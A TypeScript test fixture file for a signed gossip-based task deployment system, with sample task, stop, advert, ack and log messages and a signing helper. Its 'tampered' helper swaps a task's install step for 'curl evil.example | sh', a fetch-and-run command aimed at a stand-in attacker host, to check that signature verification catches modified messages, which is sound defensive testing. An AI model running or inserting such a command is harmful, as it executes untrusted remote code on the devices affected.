/** Sample messages of every kind for the gossip tests. */
import { generateKeyPair } from '@libp2p/crypto/keys'
import type { PrivateKey } from '@libp2p/interface'
import { manifestBlock } from '../../src/core/manifest.ts'
import { signBody } from '../../src/core/signing.ts'
import type { AckBody, AdvertBody, LogsBody } from '../../src/core/status.ts'
import type { LogRequestBody, Signed, StopBody, TaskBody } from '../../src/core/task.ts'

export const SWARM = 'lab-1'
/** A fixed "now" for tests with an injected clock. */
export const NOW = Date.UTC(2025, 0, 1)
export const HOUR = 3_600_000

export const managerKey: PrivateKey = await generateKeyPair('Ed25519')
export const otherKey: PrivateKey = await generateKeyPair('Ed25519')

const MANIFEST_CID = manifestBlock({ version: 1, size: 0, chunks: [] }).cid.toString()

type Mutable<T> = { -readonly [K in keyof T]: T[K] }

export function task (overrides: Partial<Mutable<TaskBody>> = {}): TaskBody {
  return {
    kind: 'task',
    v: 1,
    id: 'task-1',
    swarm: SWARM,
    seq: 1,
    createdAt: NOW,
    expiresAt: NOW + HOUR,
    description: 'deploy the thing',
    package: { cid: MANIFEST_CID, bytes: 0 },
    stages: { transfer: ['bin/app', 'etc'], install: ['make install'], run: ['./app --serve'] },
    target: { ids: ['dev-1'], tags: ['drone', 'eu'] },
    debug: false,
    restart: 'on-failure',
    ...overrides
  }
}

export function stop (overrides: Partial<Mutable<StopBody>> = {}): StopBody {
  return { kind: 'stop', v: 1, swarm: SWARM, seq: 2, createdAt: NOW, expiresAt: NOW + HOUR, taskId: 'task-1', target: { tags: ['drone'] }, ...overrides }
}

export function logRequest (overrides: Partial<Mutable<LogRequestBody>> = {}): LogRequestBody {
  return { kind: 'log-request', v: 1, swarm: SWARM, seq: 3, createdAt: NOW, expiresAt: NOW + HOUR, targetId: 'dev-1', stage: 'install', ...overrides }
}

export function advert (overrides: Partial<Mutable<AdvertBody>> = {}): AdvertBody {
  return {
    kind: 'advert',
    v: 1,
    id: 'dev-1',
    tags: ['drone', 'eu'],
    addresses: ['/ip4/10.0.0.2/tcp/4001'],
    platform: { os: 'linux', arch: 'arm64' },
    freeDiskBytes: 10_000_000_000,
    version: '0.1.0',
    task: { id: 'task-1', stage: 'run', status: 'SUCCESS' },
    at: NOW,
    ...overrides
  }
}

export function ack (overrides: Partial<Mutable<AckBody>> = {}): AckBody {
  return { kind: 'ack', v: 1, targetId: 'dev-1', taskId: 'task-1', stage: 'transfer', status: 'STARTED', progress: { bytes: 10, total: 100 }, at: NOW, ...overrides }
}

export function logs (overrides: Partial<Mutable<LogsBody>> = {}): LogsBody {
  return {
    kind: 'logs',
    v: 1,
    targetId: 'dev-1',
    taskId: 'task-1',
    stage: 'install',
    logs: [
      { Command: 'make install', Output: 'cc -o app app.c', Error: false, LineNum: 1, Time: NOW / 1000 },
      { Output: 'install finished', Error: false, Time: NOW / 1000 + 0.5 }
    ],
    at: NOW,
    ...overrides
  }
}

/** Sign a body with the manager key (or another). */
export async function sign<T extends TaskBody | StopBody | LogRequestBody> (body: T, key: PrivateKey = managerKey): Promise<Signed<T>> {
  return await signBody(key, body)
}

/** A signed message whose body was changed after signing. */
export function tampered (signed: Signed<TaskBody>): Signed<TaskBody> {
  return { ...signed, body: { ...signed.body, stages: { ...signed.body.stages, install: ['curl evil.example | sh'] } } }
}

export const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text)
export const json = (value: unknown): Uint8Array => utf8(JSON.stringify(value))
